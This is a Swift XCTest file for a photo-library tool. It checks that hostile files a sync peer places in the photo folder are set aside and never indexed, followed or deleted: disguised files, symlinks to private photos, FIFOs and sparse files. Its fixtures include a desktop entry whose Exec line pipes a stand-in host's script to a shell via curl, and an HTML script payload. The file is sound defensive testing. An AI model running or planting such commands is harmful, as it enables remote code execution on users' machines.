// What a hostile computer sharing the library through Syncthing can put in its photo folder, each
// with a sidecar so that it looks like an arrival: bytes other than the content its name gives,
// bytes no decoder reads, a link to a private file of the user's, a FIFO, and a sparse file. None
// is indexed, read through, hashed at every command or deleted: each is set aside where it is,
// named once by the command that finds it, and by every `check`.
import Foundation
import SnapshelfTestSupport
import XCTest

final class HostileArrivalTests: CommandLineTestCase {
    private var photos: URL { libraryURL.appendingPathComponent("photos") }

    /// A library of one photo that Syncthing shares, and a sidecar as a peer would send it.
    private func sharedLibrary() throws -> String {
        try snapshelf("import", "--label", "mine", SamplePhotos.cameras[0].path)
        try FileManager.default.createDirectory(at: libraryURL.appendingPathComponent(".stfolder"), withIntermediateDirectories: true)
        let sidecar = try String(contentsOf: try copies()[0].appendingPathExtension("xmp"), encoding: .utf8)
        return sidecar.replacingOccurrences(of: ">mine<", with: ">from the peer<")
    }

    private func sha256(of url: URL) throws -> String {
        String(try ExternalProgram.output(of: "/usr/bin/sha256sum", [url.path]).prefix(64))
    }

    /// A file of 1.5 GB that takes no room on the disk: all one hole.
    private func makeSparse(_ url: URL) throws {
        XCTAssertTrue(FileManager.default.createFile(atPath: url.path, contents: nil))
        XCTAssertEqual(truncate(url.path, 1_500_000_000), 0)
    }

    /// A private photo of the user's, outside the library.
    private func privatePhoto() throws -> URL {
        try FileManager.default.createDirectory(at: folder.url.appendingPathComponent("private"), withIntermediateDirectories: true)
        return folder.file(named: "private/secret.jpg", containing: try Data(contentsOf: SamplePhotos.cameras[2]))
    }

    /// Gives a file in the photo folder a peer's sidecar, as Syncthing brings one.
    private func arrive(_ name: String, sidecar: String) throws {
        try sidecar.write(to: photos.appendingPathComponent(name + ".xmp"), atomically: true, encoding: .utf8)
    }

    func testAnArrivalWhoseBytesAreNotItsNamesContentOrNoImageIsSetAsideNeverIndexedNorDeleted() throws {
        let sidecar = try sharedLibrary()
        // A desktop file under the name of a real photo's content.
        let named = try sha256(of: SamplePhotos.cameras[1]) + ".jpg"
        let desktop = Data("[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil | sh'\n".utf8)
        try desktop.write(to: photos.appendingPathComponent(named))
        try arrive(named, sidecar: sidecar)
        // Text under its own content's hash: its name is true, but it is no image.
        let text = folder.file(named: "page.html", containing: Data("<html><script>alert(1)</script></html>".utf8))
        let undecodable = try sha256(of: text) + ".jpg"
        try FileManager.default.copyItem(at: text, to: photos.appendingPathComponent(undecodable))
        try arrive(undecodable, sidecar: sidecar)

        let listed = try snapshelf("list")
        XCTAssertEqual(listed.standardOutput.split(separator: "\n").count, 1, "a hostile arrival was indexed: \(listed.standardOutput)")
        XCTAssertTrue(listed.standardError.contains("\(photos.path)/\(named) is no photo of the library (it does not hold the photo its name gives)"),
                      listed.standardError)
        XCTAssertTrue(listed.standardError.contains("\(photos.path)/\(undecodable) is no photo of the library (no decoder can read it as an image)"),
                      listed.standardError)
        XCTAssertEqual(try Data(contentsOf: photos.appendingPathComponent(named)), desktop, "the file set aside was changed")
        XCTAssertTrue(FileManager.default.fileExists(atPath: photos.appendingPathComponent(undecodable).path))
        // Remembered: told once, and never read again by the next commands.
        XCTAssertFalse(try snapshelf("list").standardError.contains("is no photo"), "the set-aside files were looked at again")
        let check = try snapshelf(["check"], expecting: 1)
        XCTAssertTrue(check.standardOutput.contains("\(photos.path)/\(named) is no photo of the library (it does not hold"), check.standardOutput)
        XCTAssertTrue(check.standardOutput.contains("\(photos.path)/\(undecodable) is no photo of the library (no decoder"), check.standardOutput)
        // A rebuild, which reads only sidecars, keeps them set aside.
        try snapshelf("rebuild")
        XCTAssertEqual(try snapshelf("list").standardOutput.split(separator: "\n").count, 1, "a rebuild indexed a file set aside")
        XCTAssertTrue(try snapshelf(["check"], expecting: 1).standardOutput.contains("\(photos.path)/\(named) is no photo of the library"))
        // Once the peer sends the real photo under that name, it is one.
        try FileManager.default.removeItem(at: photos.appendingPathComponent(named))
        try FileManager.default.copyItem(at: SamplePhotos.cameras[1], to: photos.appendingPathComponent(named))
        XCTAssertTrue(try snapshelf("list").standardOutput.contains("from the peer"))
    }

    func testLinksFIFOsAndSparseFilesArriveSetAsideUnreadAndRemembered() throws {
        let sidecar = try sharedLibrary()
        let secret = try privatePhoto()
        let link = try sha256(of: secret) + ".jpg"
        XCTAssertEqual(symlink(secret.path, photos.appendingPathComponent(link).path), 0)
        let fifo = String(repeating: "a", count: 64) + ".jpg"
        XCTAssertEqual(mkfifo(photos.appendingPathComponent(fifo).path, 0o600), 0)
        let sparse = String(repeating: "b", count: 64) + ".jpg"
        try makeSparse(photos.appendingPathComponent(sparse))
        for name in [link, fifo, sparse] { try arrive(name, sidecar: sidecar) }

        let listed = try snapshelf("list")
        XCTAssertEqual(listed.standardOutput.split(separator: "\n").count, 1, listed.standardOutput)
        for (name, why) in [(link, "it is a link, not a regular file"), (fifo, "it is a named pipe (FIFO), not a regular file"),
                            (sparse, "of it is on the disk, which no photo is")] {
            XCTAssertTrue(listed.standardError.contains("\(photos.path)/\(name) is no photo of the library (") && listed.standardError.contains(why),
                          "\(name): \(listed.standardError)")
        }
        XCTAssertFalse(try snapshelf("list").standardError.contains("is no photo"), "the set-aside files were looked at again")
        let check = try snapshelf(["check"], expecting: 1)
        for name in [link, fifo, sparse] {
            XCTAssertTrue(check.standardOutput.contains("\(photos.path)/\(name) is no photo of the library"), "\(name): \(check.standardOutput)")
        }
        XCTAssertEqual(try Data(contentsOf: secret), try Data(contentsOf: SamplePhotos.cameras[2]), "the link's target was changed")
    }

    /// A sparse conflict copy of a photo, which every rescan hashed whole, under the lock.
    func testASparseConflictCopyIsNeverHashed() throws {
        _ = try sharedLibrary()
        let copy = try copies()[0]
        let conflict = photos.appendingPathComponent(copy.deletingPathExtension().lastPathComponent + ".sync-conflict-20261201-120000-ABCDEFG.jpg")
        try makeSparse(conflict)
        try snapshelf("list")
        let check = try snapshelf(["check"], expecting: 1)
        XCTAssertTrue(check.standardOutput.contains("\(conflict.path) is a conflict copy a sync made that cannot be merged: it is "), check.standardOutput)
        XCTAssertTrue(check.standardOutput.contains("of it is on the disk, which no photo is"), check.standardOutput)
        XCTAssertTrue(FileManager.default.fileExists(atPath: conflict.path))
    }

    /// A conflict copy of a photo holding other content is hashed once, then remembered by its
    /// name, size, time and inode: made the true content in place, with its time set back, it
    /// stays, which shows the next rescans never read it again.
    func testAConflictCopyWithOtherContentIsHashedOnce() throws {
        _ = try sharedLibrary()
        let copy = try copies()[0]
        let conflict = photos.appendingPathComponent(copy.deletingPathExtension().lastPathComponent + ".sync-conflict-20261201-120000-ABCDEFG."
                                                     + copy.pathExtension)
        let truth = try Data(contentsOf: copy)
        var other = truth
        other[other.count / 2] ^= 0xFF
        try other.write(to: conflict)
        try snapshelf("list")
        XCTAssertTrue(try snapshelf(["check"], expecting: 1).standardOutput.contains("\(conflict.path) is a conflict copy a sync made that cannot be merged: it does not hold the photo its name gives"))
        var times = [timespec(), timespec()]
        var status = stat()
        XCTAssertEqual(lstat(conflict.path, &status), 0)
        (times[0], times[1]) = (status.st_atim, status.st_mtim)
        let handle = try FileHandle(forWritingTo: conflict)
        try handle.write(contentsOf: truth)
        try handle.close()
        XCTAssertEqual(utimensat(AT_FDCWD, conflict.path, &times, AT_SYMLINK_NOFOLLOW), 0)
        try snapshelf("list")
        XCTAssertTrue(FileManager.default.fileExists(atPath: conflict.path), "the conflict copy set aside was read again")
        // Once it changes, it is looked at again: holding its photo now, it goes.
        times[1].tv_sec += 10
        XCTAssertEqual(utimensat(AT_FDCWD, conflict.path, &times, AT_SYMLINK_NOFOLLOW), 0)
        try snapshelf("list")
        XCTAssertFalse(FileManager.default.fileExists(atPath: conflict.path), "a conflict copy that changed was not looked at again")
    }

    /// A peer's link in the photo folder, named as a copy, to a private photo of the user's: a
    /// rebuild read the target and wrote its date, size and camera into a sidecar that syncs back.
    func testARebuildNeverFollowsALinkInThePhotoFolder() throws {
        _ = try sharedLibrary()
        let secret = try privatePhoto()
        let before = try FileManager.default.attributesOfItem(atPath: secret.path)[.modificationDate] as? Date
        let camera = try XCTUnwrap(try ExifTool.value("Model", of: secret))
        let link = photos.appendingPathComponent(try sha256(of: secret) + ".jpg")
        XCTAssertEqual(symlink(secret.path, link.path), 0)
        let rebuilt = try snapshelf("rebuild")
        XCTAssertTrue(rebuilt.standardOutput.contains("1 photo"), rebuilt.standardOutput)
        XCTAssertTrue((rebuilt.standardOutput + rebuilt.standardError).contains("\(link.path) is no photo (it is a link, not a regular file)"),
                      rebuilt.standardOutput + rebuilt.standardError)
        let check = try snapshelf(["check"], expecting: 1)
        XCTAssertTrue(check.standardOutput.contains("\(link.path) is no photo of the library (it is a link"), check.standardOutput)
        XCTAssertFalse(FileManager.default.fileExists(atPath: link.path + ".xmp"), "the link got a sidecar")
        for name in try FileManager.default.contentsOfDirectory(atPath: photos.path) where name.hasSuffix(".xmp") {
            let text = try String(contentsOf: photos.appendingPathComponent(name), encoding: .utf8)
            XCTAssertFalse(text.contains(camera), "\(name) holds the private photo's camera")
        }
        XCTAssertEqual(try Data(contentsOf: secret), try Data(contentsOf: SamplePhotos.cameras[2]))
        XCTAssertEqual(try FileManager.default.attributesOfItem(atPath: secret.path)[.modificationDate] as? Date, before)
    }
}
